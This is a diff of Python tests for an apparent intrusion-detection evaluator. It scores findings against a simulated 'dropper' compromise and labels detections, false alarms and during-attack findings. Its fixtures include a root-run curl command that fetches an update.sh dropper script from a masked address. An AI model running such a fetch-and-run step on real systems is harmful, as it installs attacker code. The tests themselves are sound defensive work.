@@ -67,11 +67,38 @@ def test_a_row_with_evidence_is_credited_only_with_a_finding_that_names_it() -> 
     unrelated = Finding(FindingKind.RARE_FEATURE, "h1", "ami-1", "web", at(150), 0.9, Severity.HIGH,
                         "proc:/usr/bin/find|find /var/log -name *.gz|root", "log rotation's find", {})
     r = evaluate([unrelated], truth)
-    assert r["detected"] == 0 and r["false_positives"] == 1
+    assert (r["detected"], r["false_positives"], r["during_attack"]) == (0, 0, 1)
+    assert evaluate([unrelated], [{**truth[0], "host_id": "h2"}])["false_positives"] == 1  # not its host
     named = Finding(FindingKind.RARE_FEATURE, "h1", "ami-1", "web", at(160), 0.9, Severity.HIGH,
                     "proc:/usr/bin/curl|curl -fsS http://#.#.#.#:#/UPDATE.SH|root", "x", {})
     in_details = Finding(FindingKind.RARE_FEATURE, "h1", "ami-1", "web", at(170), 0.9, Severity.HIGH,
                          "dest:tcp/8000@10.9.0.0/24", "x", {"instance": {"remote": "10.9.0.2:8000"}})
     r = evaluate([unrelated, named, in_details], truth)
-    assert r["detected"] == 1 and r["true_positives"] == 2 and r["false_positives"] == 1
+    assert (r["detected"], r["true_positives"], r["false_positives"], r["during_attack"]) == (1, 2, 0, 1)
     assert r["per_truth"][0]["ttd_s"] == 60.0
+
+
+def test_the_report_labels_a_finding_that_names_no_evidence_apart_from_false_alarms() -> None:
+    from herdwatch.evaluation.report import DURING_ATTACK, RunInfo, build_report, is_false_alarm
+    from herdwatch.evaluation.runner import DetectionRun, HostSeen
+    from simulator.scenarios import GroundTruth
+
+    row = GroundTruth("dropper", "compromise", "dropper", "h1", "web", at(100), at(400),
+                      details={"evidence": ["update.sh"]})
+    shell_init = Finding(FindingKind.RARE_FEATURE, "h1", "ami-1", "web", at(150), 0.9, Severity.HIGH,
+                         "proc:/root/.pyenv/libexec/pyenv|pyenv init -|root", "x", {})
+    named = Finding(FindingKind.RARE_FEATURE, "h1", "ami-1", "web", at(160), 0.9, Severity.HIGH,
+                    "proc:/usr/bin/curl|curl http://#.#.#.#:#/update.sh|root", "x", {})
+    elsewhere = Finding(FindingKind.RARE_FEATURE, "h2", "ami-1", "web", at(160), 0.9, Severity.HIGH,
+                        "proc:/usr/bin/find|find|root", "x", {})
+    hosts = {h: HostSeen(h, "ami-1", "web", at(0), at(3600)) for h in ("h1", "h2")}
+    run = DetectionRun(findings=[shell_init, named, elsewhere], rollouts=[], hosts=hosts, start=at(0), end=at(3600))
+    info = RunInfo(scenario="lab", seed=0, start=at(0), end=at(3600), warmup_end=at(60), cycle_s=10.0,
+                   host_cohort={"h1": "ami-1", "h2": "ami-1"})
+    rep = build_report(run, [row], info)
+    labels = {a["subject"]: a["label"] for a in rep["anomalies"]}
+    assert labels[shell_init.subject] == DURING_ATTACK + "dropper" and not is_false_alarm(labels[shell_init.subject])
+    assert labels[named.subject] == "dropper" and labels[elsewhere.subject] == "false_alarm"
+    s = rep["summary"]
+    assert (s["detected"], s["false_alarms"], s["during_attack_findings"], s["precision"]) == (1, 1, 1, 0.5)
+    assert rep["scenarios"][0]["time_to_detect_s"] == 60.0
